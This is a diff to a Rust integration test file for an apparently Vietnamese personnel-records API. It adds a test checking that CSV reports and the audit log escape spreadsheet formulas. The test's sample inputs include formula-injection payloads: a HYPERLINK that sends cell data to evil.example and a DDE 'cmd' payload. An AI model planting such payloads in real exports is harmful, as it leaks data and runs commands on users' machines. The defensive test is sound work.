@@ -15,7 +15,7 @@
 //! Standards: chair needs university and intermediate political theory; clerk needs
 //! college and specialist state management; staff has none.
 
-use reqwest::StatusCode;
+use reqwest::{Method, StatusCode};
 use serde_json::{json, Value};
 
 use crate::helpers::TestApp;
@@ -542,32 +542,15 @@ async fn training_follows_a_class_that_moves() {
     );
 }
 
-/// Parses CSV text (quoted fields allowed) into rows.
+/// Reads CSV text back with the `csv` crate, a row of fields each.
 fn parse_csv(text: &str) -> Vec<Vec<String>> {
-    let mut rows = Vec::new();
-    let mut row = Vec::new();
-    let mut field = String::new();
-    let mut quoted = false;
-    let mut chars = text.chars().peekable();
-    while let Some(ch) = chars.next() {
-        match (quoted, ch) {
-            (true, '"') if chars.peek() == Some(&'"') => {
-                field.push('"');
-                chars.next();
-            }
-            (true, '"') => quoted = false,
-            (true, other) => field.push(other),
-            (false, '"') => quoted = true,
-            (false, ',') => row.push(std::mem::take(&mut field)),
-            (false, '\r') => {}
-            (false, '\n') => {
-                row.push(std::mem::take(&mut field));
-                rows.push(std::mem::take(&mut row));
-            }
-            (false, other) => field.push(other),
-        }
-    }
-    rows
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|record| record.expect("a CSV record").iter().map(str::to_owned).collect())
+        .collect()
 }
 
 async fn csv(app: &TestApp, path: &str, accept_header: bool) -> (String, Vec<Vec<String>>) {
@@ -709,4 +692,62 @@ async fn reports_need_a_unit_that_exists() {
     app.get("/api/v1/reports/qualifications?unit_id=1&group_by=province")
         .await
         .assert_fields(&["group_by"]);
+}
+
+#[tokio::test]
+async fn cells_a_spreadsheet_would_run_are_written_as_text() {
+    let app = TestApp::spawn().await;
+    let ward = app.unit("W", "Phường W", "ward", None).await;
+    let post = app
+        .post(
+            "/api/v1/positions",
+            json!({"code": "P", "title": "@SUM(1+1)", "category": "cadre", "min_education": "university"}),
+        )
+        .await
+        .id();
+    for (code, name) in [
+        ("F1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")"),
+        ("F2", "+1+cmd|' /C calc'!A0"),
+        ("F3", "-2+3"),
+        ("F4", "Lê Minh Công"),
+    ] {
+        app.official(
+            json!({"code": code, "full_name": name, "gender": "male", "unit_id": ward,
+                            "position_id": post, "started_on": "2020-01-01"}),
+        )
+        .await;
+    }
+    // An anonymous login attempt whose username is a formula, logged for the auditors.
+    app.send(
+        Method::POST,
+        "/api/v1/auth/login",
+        None,
+        Some(json!({"username": "=1+1", "password": "x"})),
+    )
+    .await
+    .assert_problem(401);
+
+    let (_, rows) = csv(
+        &app,
+        &format!("/api/v1/reports/compliance?unit_id={ward}&format=csv"),
+        false,
+    )
+    .await;
+    let cells: Vec<&String> = rows.iter().flatten().collect();
+    for written in [
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")",
+        "'+1+cmd|' /C calc'!A0",
+        "'-2+3",
+        "'@SUM(1+1)",
+        "Lê Minh Công",
+    ] {
+        assert!(cells.iter().any(|c| c.as_str() == written), "{written} in {rows:?}");
+    }
+    assert!(!cells.iter().any(|c| c.starts_with(['=', '+', '-', '@'])), "{rows:?}");
+    let (_, log) = csv(&app, "/api/v1/audit-log?format=csv", false).await;
+    assert!(log.iter().flatten().any(|c| c == "'=1+1"), "{log:?}");
+    assert!(
+        !log.iter().flatten().any(|c| c.starts_with(['=', '+', '-', '@'])),
+        "{log:?}"
+    );
 }
